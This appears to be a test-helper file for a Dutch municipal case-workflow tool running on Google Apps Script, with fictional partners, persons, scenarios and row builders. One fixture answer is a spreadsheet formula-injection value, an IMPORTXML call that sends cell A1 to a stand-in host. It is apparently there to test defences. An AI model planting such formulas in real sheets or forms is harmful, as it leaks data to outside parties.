/** Shared set-up for workflow tests: a small fictional gemeente played on the in-memory Apps Script. */

import { expect } from 'vitest';
import { snapshotForm, submitAsRespondent } from '../../src/local/apps-script/forms';
import type { RuntimeOptions } from '../../src/local/apps-script/runtime';
import { snapshotSpreadsheet } from '../../src/local/apps-script/spreadsheet';
import { fictionalCaseInput } from '../../src/local/demo/caseInput';
import { parseScenario } from '../../src/local/demo/loadScenario';
import type { ScenarioResult } from '../../src/local/demo/runScenario';
import { runScenario } from '../../src/local/demo/runScenario';
import type { Scenario } from '../../src/local/demo/scenarioSchema';
import type { LocalAppsScript } from '../../src/local/harness';
import { startLocalAppsScript } from '../../src/local/harness';
import { replay } from '../../src/model/caseMachine';
import { UserError } from '../../src/model/errors';
import { isoDate } from '../../src/model/time';
import type { StepId } from '../../src/model/types';
import { LIGHT_ROUTES } from '../../src/model/types';
import { readDecisions } from '../../src/workflow/assemble';
import type { CaseHandle, CaseRow } from '../../src/workflow/context';
import { openCase, openRegister } from '../../src/workflow/context';
import type { DecisionInput } from '../../src/workflow/decide';
import { recordDecision } from '../../src/workflow/decide';
import type { CaseFacts, CaseTables } from '../../src/workflow/digestFacts';
import { openNewCase } from '../../src/workflow/newCase';
import type { FormRow, PlanRow } from '../../src/workflow/records';
import { ANSWERS, LOG } from '../../src/workflow/records';
import { setupRegister } from '../../src/workflow/registerTabs';
import { appendRows, readTable } from '../../src/workspace/tables';

export const PARTNERS = [
  {
    id: 'politie',
    organisation: 'Politie Basisteam Testdorp',
    kind: 'politie',
    contactName: 'Wijkagent Test',
    email: 'wijkagent@politie.example',
    steps: ['1', '2A', '2B', '3', '4', '5', '6', '7'],
    levels: ['groep', 'persoon', 'domein', 'online'],
    active: true,
    convenantSigned: '2025-09-01',
  },
  {
    id: 'jongerenwerk',
    organisation: 'Jongerenwerk Testdorp',
    kind: 'jongerenwerk',
    contactName: 'Jongerenwerker Test',
    email: 'team@jongerenwerk.example',
    steps: ['1', '2A', '3', '5', '6', '7'],
    levels: ['groep', 'domein', 'online'],
    active: true,
  },
  {
    id: 'boa',
    organisation: 'Handhaving Testdorp',
    kind: 'boa',
    contactName: 'Boa Test',
    email: 'handhaving@testdorp.example',
    steps: ['1', '2A', '3', '6'],
    levels: ['groep', 'domein'],
    active: true,
  },
];

/** An Advies tab as a procesregisseur fills it in before step 4 (model/adviceSheet). */
export const ADVICE = {
  probleemdefinitie: 'Een vaste kern intimideert bezoekers van de speeltuin.',
  prioriteit: 'prioriteren' as const,
  onderbouwing: 'De partners zien een duidelijke en toenemende ernst.',
  sporen: { groep: 'Groepsaanspreking door politie en jongerenwerk.' },
  capaciteit: { politie: 'Twee avonden per week.' },
};

export const PERSONS = [
  { naam: 'Testpersoon Aardbei', geboortejaar: 2010 },
  { naam: 'Testpersoon Bosbes', geboortejaar: 2009 },
  { naam: 'Testpersoon Citroen', geboortejaar: 2011 },
];

const SIGNAL = {
  '1.acuut': 'Nee',
  '1.functie': 'wijkagent',
  '1.locaties': 'Speeltuin aan het Kerkplein, vooral na schooltijd.',
  '1.gedrag': ['Rondhangen en lawaai maken'],
  '1.ernst': '3',
};

/** A scenario that ends in 2A with "niet problematisch" (no person data). */
export function shortScenario(overrides: Partial<Scenario> = {}): Scenario {
  const parsed = parseScenario(shortScenarioInput(overrides));
  if (!parsed.ok) throw new Error(parsed.errors.join('\n'));
  return parsed.scenario;
}

/** The scenario file of {@link shortScenario}, as JSON data before it is checked. */
export function shortScenarioInput(overrides: Partial<Scenario> = {}) {
  return {
    name: 'kort',
    settings: {
      gemeente: 'Testdorp',
      retentionMonths: 12,
      coordinatorName: 'Procesregisseur Test',
      coordinatorEmail: 'regie@testdorp.example',
      mailSenderName: 'Gemeente Testdorp',
      allowResponseEdits: true,
    },
    partners: PARTNERS,
    persons: PERSONS,
    steps: [
      {
        step: '1',
        startOn: '2026-01-12',
        submissions: {
          politie: { day: 1, answers: SIGNAL, duplicate: true },
          boa: {
            day: 2,
            answers: {
              ...SIGNAL,
              '1.functie': 'boa',
              '1.locaties': '=IMPORTXML("https://x.example/?"&A1,"//a")',
            },
            edit: { day: 3, answers: { ...SIGNAL, '1.functie': 'jeugdboa', '1.locaties': '+31 6 12345678' } },
          },
        },
        ghosts: ['jongerenwerk'],
        decision: {
          day: 12,
          outcome: 'verder_verkennen',
          motivation: 'Twee partners zien hetzelfde.',
          decidedBy: 'partneroverleg',
        },
      },
      {
        step: '2A',
        startOn: '2026-02-02',
        submissions: {},
        decision: {
          day: 12,
          outcome: 'niet_problematisch',
          motivation: 'Het gedrag is hinderlijk maar niet problematisch.',
          decidedBy: 'partneroverleg',
          route: 'lichte_interventie',
        },
      },
    ],
    ...overrides,
  };
}

export interface Played {
  local: LocalAppsScript;
  result: ScenarioResult;
  lines: string[];
}

export function play(scenario: Scenario, opts: Omit<RuntimeOptions, 'now'> = {}): Played {
  const local = startLocalAppsScript({
    now: Date.UTC(2026, 0, 5, 7, 0),
    mailDailyQuota: scenario.mailQuota,
    language: scenario.language,
    ...opts,
  });
  const lines: string[] = [];
  try {
    const result = runScenario(local.rt, scenario, (l) => lines.push(l));
    return { local, result, lines };
  } catch (e) {
    local.dispose();
    throw e;
  }
}

/** Visible tabs of a spreadsheet as plain values (what a coordinator sees). */
export function visibleTabs(p: Played, id: string, except: string[] = []): Record<string, unknown[][]> {
  const snap = snapshotSpreadsheet(p.local.rt, id);
  const out: Record<string, unknown[][]> = {};
  for (const s of snap.sheets) if (!s.hidden && !except.includes(s.name)) out[s.name] = s.values;
  return out;
}

/** A register set up with these partners, bound to a fresh in-memory Apps Script (Monday 12 January 2026, 09:00). */
export function freshRegister(
  partners: unknown = PARTNERS,
  opts: Omit<RuntimeOptions, 'now'> = {},
): {
  local: LocalAppsScript;
  ss: GoogleAppsScript.Spreadsheet.Spreadsheet;
} {
  const local = startLocalAppsScript({ now: Date.UTC(2026, 0, 12, 8, 0), ...opts });
  const ss = SpreadsheetApp.create('Register');
  local.rt.boundContainerId = ss.getId();
  setupRegister(ss, {
    settings: { gemeente: 'Testdorp', coordinatorEmail: 'regie@testdorp.example', retentionMonths: 12 },
    partners,
  });
  return { local, ss };
}

/** A register with PARTNERS and one new case, on a fresh in-memory Apps Script (Monday 12 January 2026, 09:00). */
export function freshLocalCase(opts: Omit<RuntimeOptions, 'now'> = {}): {
  local: LocalAppsScript;
  h: CaseHandle;
} {
  const { local } = freshRegister(PARTNERS, opts);
  return { local, h: openNewCase(openRegister(), fictionalCaseInput()) };
}

/** A gate decision as the coordinator records it: today, by the overleg, with a short motivation. */
export function decideGate(
  local: LocalAppsScript,
  h: CaseHandle,
  step: StepId,
  outcome: string,
  routes?: DecisionInput['routes'],
): ReturnType<typeof recordDecision> {
  return recordDecision(
    openCase(openRegister(), h.row.code),
    {
      step,
      round: 1,
      outcome,
      ...(routes ? { routes } : {}),
      motivation: 'Besproken.',
      decidedBy: 'overleg',
      date: isoDate(local.rt.now(), 'Europe/Amsterdam'),
    },
    'regie@testdorp.example',
  );
}

/** Gate 2B decided "niet bevestigd" today with a light route: the case closes and its namenlijst must go. */
export function closeAt2B(
  local: LocalAppsScript,
  h: CaseHandle,
  notes?: string[],
): ReturnType<typeof recordDecision> {
  return recordDecision(
    openCase(openRegister(), h.row.code),
    {
      step: '2B',
      round: 1,
      outcome: 'niet_bevestigd',
      routes: [LIGHT_ROUTES[0]!],
      motivation: 'Niet bevestigd.',
      decidedBy: 'overleg',
      date: isoDate(local.rt.now(), 'Europe/Amsterdam'),
    },
    'regie@testdorp.example',
    notes,
  );
}

/** The case's state as if it closed at 2B now ("niet bevestigd"), without recording a decision. */
export function closedAt2B(h: CaseHandle) {
  const state = replay(h.row.code, readDecisions(h.ss));
  const last = state.decisions[state.decisions.length - 1]!;
  return {
    ...state,
    status: 'gesloten' as const,
    step: '2B' as const,
    decisions: [...state.decisions, { ...last, step: '2B' as const, outcome: 'niet_bevestigd' }],
  };
}

/** A fresh case decided "verder verkennen" at 1 and "problematisch" at 2A: it may hold a namenlijst. */
export function freshCaseAt2B(): { local: LocalAppsScript; h: CaseHandle } {
  const f = freshLocalCase();
  decideGate(f.local, f.h, '1', 'verder_verkennen');
  decideGate(f.local, f.h, '2A', 'problematisch');
  return { local: f.local, h: openCase(openRegister(), f.h.row.code) };
}

/** What a partner fills in: every required item (or every item) gets a valid answer, by item id. */
export function answersFor(
  rt: LocalAppsScript['rt'],
  formId: string,
  text = 'Ingevuld door de partner.',
  opts: { all?: boolean } = {},
): Record<number, string | string[] | string[][]> {
  const snap = snapshotForm(rt, formId);
  const answers: Record<number, string | string[] | string[][]> = {};
  for (const it of snap.items) {
    if (!it.required && !opts.all) continue;
    if (it.type === 'SECTION_HEADER' || it.type === 'PAGE_BREAK') continue;
    if (it.type === 'MULTIPLE_CHOICE' || it.type === 'LIST') answers[it.id] = it.choices[0]!;
    else if (it.type === 'CHECKBOX') answers[it.id] = [it.choices[0]!];
    else if (it.type === 'SCALE') answers[it.id] = String(it.bounds![0]);
    else if (it.type === 'DATE') answers[it.id] = '2026-01-13';
    else if (it.type === 'GRID') answers[it.id] = it.rows.map(() => it.columns[0]!);
    else if (it.type === 'CHECKBOX_GRID') answers[it.id] = it.rows.map(() => [it.columns[0]!]);
    else answers[it.id] = text;
  }
  return answers;
}

/** A partner filling in a form: every required item gets a valid answer. */
export function fillRequired(
  rt: LocalAppsScript['rt'],
  formId: string,
  text = 'Ingevuld door de partner.',
  opts: { all?: boolean } = {},
): string {
  return submitAsRespondent(rt, formId, answersFor(rt, formId, text, opts));
}

/** mulberry32: a small seeded generator, so a failing random test can be replayed with its seed. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/**
 * Runs `fn` while partner `id` takes part only in `steps` (column F of the register's Partners
 * tab, typed as text) and puts the old value back afterwards, also when `fn` throws.
 */
export function withPartnerSteps<T>(id: string, steps: string, fn: () => T): T {
  const cell = partnerCell(id, 6);
  const before = cell.getValue();
  cell.setValue(`'${steps}`);
  try {
    return fn();
  } finally {
    cell.setValue(`'${String(before)}`);
  }
}

/** The message of the UserError `f` throws; fails the test when `f` throws another error or none. */
export function refusal(f: () => unknown): string {
  try {
    f();
  } catch (e) {
    expect(e).toBeInstanceOf(UserError);
    return (e as Error).message;
  }
  throw new Error('niet geweigerd');
}

/** A register row of an open case at step 1 (fictional ids), for tests that build tables by hand. */
export function caseListRow(over: Partial<CaseRow> = {}): CaseRow {
  return {
    index: 0,
    code: 'JGA-2026-001',
    status: 'open',
    step: '1',
    folderId: 'f',
    spreadsheetId: 's',
    overviewId: 'o',
    namesId: '',
    openedOn: '2026-01-05',
    updatedAt: 0,
    closedOn: '',
    late: 0,
    nextAction: '',
    label: '',
    wijk: '',
    firstSignal: '',
    retentionMonths: 0,
    ...over,
  };
}

/** A `_formulieren` row for `key` = `<step>#<round>#<partner>[#n]`, open with deadline 26 January 2026. */
export function formRow(key: string, over: Partial<FormRow> = {}): FormRow {
  const [step, round, partnerId] = key.split('#');
  return {
    formKey: key,
    step: step as FormRow['step'],
    round: Number(round),
    partnerId: partnerId!,
    formId: `form-${key}`,
    publishedUrl: '',
    editUrl: '',
    deadline: '2026-01-26',
    createdAt: 0,
    status: 'open',
    itemMap: '{}',
    closedAt: 0,
    planVersion: 0,
    readUpTo: 0,
    sheetBook: '',
    sheetTab: '',
    sheetPrint: '',
    ...over,
  };
}

/** The Logboek lines written by `fn`, as [event, detail]. */
export function logged<T>(h: CaseHandle, fn: () => T): { value: T; lines: [string, string][] } {
  const before = readTable(h.ss, LOG).length;
  const value = fn();
  const lines = readTable(h.ss, LOG)
    .slice(before)
    .map((l): [string, string] => [l.event, l.detail]);
  return { value, lines };
}

/** The cell in column `column` of partner `id`'s row in the register's Partners tab. */
function partnerCell(id: string, column: number): GoogleAppsScript.Spreadsheet.Range {
  const partners = openRegister().ss.getSheetByName('Partners')!;
  const row =
    partners
      .getDataRange()
      .getValues()
      .findIndex((r) => r[0] === id) + 1;
  return partners.getRange(row, column);
}

/** Types the levels a partner delivers at ("groep, domein, persoon") into its Partners row, as text. */
export function setPartnerLevels(id: string, levels: string): void {
  partnerCell(id, 7).setValue(`'${levels}`);
}

/** The duiding of step 3 as two partners answered it: "Vernieling" scored 2 (politie) and 3 (jongerenwerk). */
export function scoreVandalismInDuiding(h: CaseHandle, at: number): void {
  appendRows(
    h.ss,
    ANSWERS,
    ['politie', 'jongerenwerk'].map((partner, i) => ({
      formKey: `3#1#${partner}`,
      responseId: `r${i}`,
      version: 1,
      submittedAt: at,
      questionId: '3.duiding.aard',
      subject: '',
      part: 0,
      value: `Vernieling: ${i === 0 ? '2 duidelijk' : '3 ernstig'}`,
      grid: '',
    })),
  );
}

/** A case's register tables as digestFacts reads them: all empty unless given. */
export function caseTables(over: Partial<CaseTables> = {}): CaseTables {
  return { forms: [], outbox: [], quarantine: [], decisions: [], log: [], persons: [], ...over };
}

/** The digest facts of one case with nothing to report unless given. */
export function caseFacts(code: string, over: Partial<CaseFacts> = {}): CaseFacts {
  return {
    code,
    label: '',
    late: [],
    decisionDue: null,
    failedMails: [],
    uncertainMails: [],
    quarantine: [],
    logChanged: [],
    sharingReverted: [],
    informLate: [],
    ...over,
  };
}

/** A `_plan` row of plan version `version`: an empty `kind` named `id` unless given. */
export function planRow(
  version: number,
  kind: PlanRow['kind'],
  id: string,
  over: Partial<PlanRow> = {},
): PlanRow {
  return {
    version,
    kind,
    id,
    spoor: '',
    text: `${kind} ${id}`,
    goalId: '',
    owner: '',
    deadline: '',
    subject: '',
    start: '',
    frequency: '',
    indicator: '',
    baseline: 0,
    baselineFrom: '',
    target: 0,
    measureDate: '',
    ...over,
  };
}
